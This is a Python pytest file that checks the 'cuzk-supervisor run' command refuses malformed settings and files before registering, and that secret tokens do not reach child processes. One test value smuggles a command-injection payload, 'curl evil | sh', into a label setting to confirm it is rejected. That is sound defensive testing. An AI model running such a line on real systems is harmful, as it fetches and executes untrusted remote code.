"""Issue 13, items 3, 4 and 7 end to end: ``cuzk-supervisor run`` as a real process against the
simulated manager (and, where it gets that far, the simulated daemon).

A bad value or input file is refused before ``/register``: exit 2, one line naming the setting
or file, no traceback, the manager asked nothing, no folder made, no child started. A public
daemon address is taken only with ``allow_public_listen`` (and then with a warning). The
daemon, the params fetch and the worker commands get no secret in their environment.
"""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import signal
import subprocess
import sys
from collections.abc import Callable, Generator, Mapping
from pathlib import Path

import psutil
import pytest
from daemonhelpers import processes_mentioning
from lifecyclehelpers import fetch_command, lifecycle_env, start_run
from managerhelpers import ManagerProcess
from pacehelpers import scaled
from simhelpers import free_tcp_port, poll_until

from cuzk_supervisor import exitcodes, settings

PHASE1 = "eyJhIjogMX0="  # base64 of {"a": 1}


@pytest.fixture(scope="module")
def shared_manager(tmp_path_factory: pytest.TempPathFactory) -> Generator[ManagerProcess]:
    """One simulated manager for every refused run: none of them may reach it."""
    mgr = ManagerProcess.start(tmp_path_factory.mktemp("mgr") / "manager.db")
    yield mgr
    mgr.kill()


def _bytes_env(env: Mapping[str, str] | Mapping[bytes, bytes]) -> dict[bytes, bytes]:
    return {os.fsencode(k): os.fsencode(v) for k, v in env.items()}


def _base_env() -> dict[bytes, bytes]:
    return _bytes_env(
        {
            k: v
            for k, v in os.environ.items()
            if not k.startswith((settings.ENV_PREFIX, "VAST_", "MIN_RATE", "CUZK_SIM_"))
        }
    )


def _run(env: Mapping[bytes, bytes]) -> subprocess.CompletedProcess[str]:
    # A refusal takes about a second (the interpreter's start); 10 s is only a hang guard.
    return subprocess.run(
        [sys.executable, "-m", "cuzk_supervisor", "run"],
        env=env, capture_output=True, text=True, errors="replace", timeout=10, check=False,
    )  # fmt: skip


def _c1(tmp_path: Path, content: bytes | None = None, *, sparse: int = 0) -> Path:
    path = tmp_path / "bad-c1.json"
    if sparse:
        with open(path, "wb") as handle:
            handle.truncate(sparse)
    else:
        path.write_bytes(content or b"")
    return path


def _file(tmp_path: Path, name: str, content: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(content)
    return path


def _fifo(tmp_path: Path) -> Path:
    path = tmp_path / "c1.fifo"
    os.mkfifo(path)
    return path


def _not_executable(tmp_path: Path) -> Path:
    path = _file(tmp_path, "cuzk", b"#!/bin/sh\n")
    path.chmod(0o644)
    return path


def _blocked(tmp_path: Path, name: str) -> Path:
    """A path under a regular file: it can never be made, whoever we are (root included)."""
    return _file(tmp_path, "blocker", b"a file where a folder should be") / name


def _sim_args(*extra: str) -> str:
    return shlex.join(
        ["-m", "cuzk_supervisor.sim.daemon", "--time-scale", f"{scaled(200):g}", *extra]
    )


# name -> (extra environment built from tmp_path, the fragment the one error line names)
Extra = Callable[[Path], Mapping[str, str] | Mapping[bytes, bytes]]
REFUSED: dict[str, tuple[Extra, str]] = {
    "label with newline and shell metacharacters": (
        lambda t: {"CUZK_SUPERVISOR_LABEL": "C.1\n; curl evil | sh"},
        "setting label",
    ),
    "label not UTF-8": (lambda t: {b"CUZK_SUPERVISOR_LABEL": b"C.\xff"}, "setting label"),
    "token of 100 KB": (
        lambda t: {"CUZK_SUPERVISOR_MANAGER_TOKEN": "t" * 100_000},
        "setting manager_token",
    ),
    "state folder not UTF-8": (
        lambda t: {b"CUZK_SUPERVISOR_STATE_DIR": str(t).encode() + b"/\xfe"},
        "setting state_dir",
    ),
    "bench_count 10^18": (
        lambda t: {"CUZK_SUPERVISOR_BENCH_COUNT": "1000000000000000000"},
        "setting bench_count",
    ),
    "interval NaN": (lambda t: {"CUZK_SUPERVISOR_STATUS_INTERVAL_S": "nan"}, "status_interval"),
    "manager URL with a bad port": (
        lambda t: {"CUZK_SUPERVISOR_MANAGER_URL": "http://127.0.0.1:99999/"},
        "setting manager_url",
    ),
    "platform label with a newline": (
        lambda t: {"CUZK_SUPERVISOR_LABEL": "", "VAST_CONTAINERLABEL": "C.1\nx"},
        "env VAST_CONTAINERLABEL",
    ),
    "settings file not UTF-8": (
        lambda t: {"CUZK_SUPERVISOR_CONFIG_FILE": str(_file(t, "s.toml", b"label='\xff'"))},
        "not UTF-8",
    ),
    "daemon base config not TOML": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_BASE_CONFIG": str(_file(t, "b.toml", b"[x\n"))},
        "daemon base config",
    ),
    "daemon base config not UTF-8": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_BASE_CONFIG": str(_file(t, "b.toml", b"a='\xff'"))},
        "daemon base config",
    ),
    "C1 empty": (lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, b""))}, "is empty"),
    "C1 not JSON": (lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, b"PK\x03\x04"))}, "JSON"),
    "C1 of the wrong shape": (
        lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, json.dumps({"Phase1": 1}).encode()))},
        "has no Phase1Out",
    ),
    "C1 a 2 GiB sparse file": (
        lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_c1(t, sparse=2 << 30))},
        "at most 128 MiB",
    ),
    "C1 missing": (
        lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(t / "absent.json")},
        "setting c1_file: cannot read C1 file",
    ),
    # Issue 23: named as the setting, like every other bad value.
    "C1 a folder": (lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(t)}, "setting c1_file"),
    "C1 a FIFO": (lambda t: {"CUZK_SUPERVISOR_C1_FILE": str(_fifo(t))}, "setting c1_file"),
    "daemon listen over the unix socket limit": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_LISTEN": "unix:///" + "s" * 120},
        "setting daemon_listen",
    ),
    "run folder too long for the daemon's socket": (
        lambda t: {"CUZK_SUPERVISOR_RUN_DIR": str(t / "run" / ("r" * 120))},
        "setting run_dir",
    ),
    "daemon listen public": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_LISTEN": f"0.0.0.0:{free_tcp_port()}"},
        "allow_public_listen",
    ),
    "daemon status listen public": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_STATUS_LISTEN": f"0.0.0.0:{free_tcp_port()}"},
        "allow_public_listen",
    ),
    # Issue 14.2: found before the slow phases, not at warmup (exit 3) or by a crash loop (4).
    "daemon binary missing": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_BINARY": str(t / "absent" / "cuzk")},
        "setting daemon_binary",
    ),
    "daemon binary not executable": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_BINARY": str(_not_executable(t))},
        "not executable",
    ),
    "daemon binary not on PATH": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_BINARY": "no-such-cuzk-daemon"},
        "not found on PATH",
    ),
    "param cache that cannot be made": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_PARAM_CACHE": str(_blocked(t, "params"))},
        "setting daemon_param_cache",
    ),
    "state folder that cannot be made": (
        lambda t: {"CUZK_SUPERVISOR_STATE_DIR": str(_blocked(t, "state"))},
        "setting state_dir",
    ),
    "log folder that is a file": (
        lambda t: {"CUZK_SUPERVISOR_LOG_DIR": str(_file(t, "logfile", b""))},
        "is not a folder",
    ),
    "simulator fault spec": (
        lambda t: {"CUZK_SUPERVISOR_DAEMON_ARGS": _sim_args("--fault", "bogus")},
        "unknown fault kind 'bogus'",
    ),
    "simulator fault spec in its environment": (
        lambda t: {"CUZK_SIM_FAULTS": "exit:soon"},
        "is not a number",
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_bad_input_exits_2_before_register(
    case: str, tmp_path: Path, shared_manager: ManagerProcess
) -> None:
    build, fragment = REFUSED[case]
    before = len(shared_manager.requests())
    # All as bytes, so a non-UTF-8 value replaces its setting's text value (else both are
    # passed and the first one wins).
    env = {
        **_base_env(),
        **_bytes_env(lifecycle_env(tmp_path, shared_manager.url)),
        **_bytes_env(build(tmp_path)),
    }
    try:
        done = _run(env)
    finally:  # a run that went ahead by mistake must not leave its daemon behind
        for proc in processes_mentioning(str(tmp_path)):
            with contextlib.suppress(psutil.Error):
                proc.kill()
    _assert_refused(done, fragment, tmp_path, shared_manager, before)


def _assert_refused(
    done: subprocess.CompletedProcess[str],
    fragment: str,
    tmp_path: Path,
    mgr: ManagerProcess,
    before: int,
) -> None:
    assert done.returncode == exitcodes.USAGE, done.stderr[-2000:]
    assert done.stderr.count("\n") == 1, done.stderr[-2000:]
    assert fragment in done.stderr
    assert "Traceback" not in done.stderr
    assert len(done.stderr) < 600
    # Nothing registered (nor asked), nothing written, nothing started.
    assert mgr.requests(since=before) == []
    assert mgr.requests(path="/register") == []
    for folder in ("state", "run", "log", "params"):
        assert not (tmp_path / folder).exists(), folder
    assert not (tmp_path / "fetch-runs").exists()
    assert processes_mentioning(str(tmp_path)) == []


@contextlib.contextmanager
def _tmpfs(folder: Path, options: str) -> Generator[Path]:
    folder.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)],
        capture_output=True, check=False,
    )  # fmt: skip
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode().strip()}")
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], capture_output=True, check=False)


@pytest.mark.parametrize(
    ("options", "fragment"),
    [
        # Root writes anywhere but on a read-only file system.
        ("ro,size=64k", "not writable"),
        # 64 KiB where the parameters and PCE files need 125 (simulated) GiB: 125 MiB here.
        ("size=64k", "the parameters and PCE files need 125.0 MiB"),
    ],
    ids=["read-only", "too-little-disk"],
)
def test_a_param_cache_that_cannot_hold_the_parameters_exits_2_before_register(
    options: str, fragment: str, tmp_path: Path, shared_manager: ManagerProcess
) -> None:
    before = len(shared_manager.requests())
    # The simulator's own 1 MiB per simulated GiB, which the 125 MiB below is in.
    env = {**_base_env(), **_bytes_env(lifecycle_env(tmp_path, shared_manager.url, memory_scale=1))}
    with _tmpfs(tmp_path / "disk", options) as disk:
        env[b"CUZK_SUPERVISOR_DAEMON_PARAM_CACHE"] = os.fsencode(disk / "params")
        done = _run(env)
        assert not (disk / "params").exists()
    _assert_refused(done, fragment, tmp_path, shared_manager, before)
    assert "setting daemon_param_cache" in done.stderr


def _environ_of(pid: int) -> dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def _env_file(path: Path) -> dict[str, str]:
    lines = path.read_text(errors="replace").splitlines()
    return dict(line.split("=", 1) for line in lines if "=" in line)


SECRET = "s3cret-manager-token-value"
OTHER_SECRET = "s3cret-other-token-value"


def test_public_daemon_listen_when_allowed_and_children_get_no_secret(
    tmp_path: Path, manager
) -> None:
    """allow_public_listen: the daemon listens on 0.0.0.0 with a warning logged; the daemon's
    /proc/PID/environ, the fetch command's and a worker command's environment hold neither
    the manager token nor any other *_TOKEN, but keep the rest of the environment."""
    mgr = manager()
    fetch_env = tmp_path / "fetch.env"
    worker_env = tmp_path / "worker.env"
    port = free_tcp_port("0.0.0.0")
    env = lifecycle_env(
        tmp_path,
        mgr.url,
        bench_count=4,
        daemon_listen=f"0.0.0.0:{port}",
        allow_public_listen="true",
        manager_token=SECRET,
        params_fetch_command=f"env > {fetch_env} && {fetch_command(tmp_path)}",
        worker_commands=shlex.quote(f"env > {worker_env}.tmp && mv {worker_env}.tmp "
                                    f"{worker_env} && exec sleep 300"),
    )  # fmt: skip
    env["UPLOAD_API_TOKEN"] = OTHER_SECRET
    env["CUZK_E2E_KEPT"] = "kept"
    run = start_run(env)
    try:
        poll_until(lambda: worker_env.exists() or run.proc.poll() is not None, 90, what="worker")
        assert run.proc.poll() is None, run.describe()
        warning = run.wait_event("settings.public_listen")
        assert "daemon_listen" in warning["detail"]
        assert run.named("manager.registered")  # the run went ahead
        pid = int(run.named("daemon.spawned")[-1]["pid"])
        children = {
            "daemon": _environ_of(pid),
            "fetch": _env_file(fetch_env),
            "worker": _env_file(worker_env),
        }
        for who, child in children.items():
            assert child.get("CUZK_E2E_KEPT") == "kept", who  # the rest is passed on
            leaked = [k for k, v in child.items() if k.endswith("_TOKEN") or SECRET in v]
            assert leaked == [], who
            assert not any(OTHER_SECRET in v for v in child.values()), who
        assert "CUZK_SUPERVISOR_MANAGER_TOKEN" not in children["daemon"]
        # ... while the supervisor itself still has it (it sends it to the manager).
        assert SECRET in Path(f"/proc/{run.proc.pid}/environ").read_text(errors="replace")
    finally:
        run.signal(signal.SIGTERM)
        try:
            run.proc.wait(30)
        finally:
            run.kill()
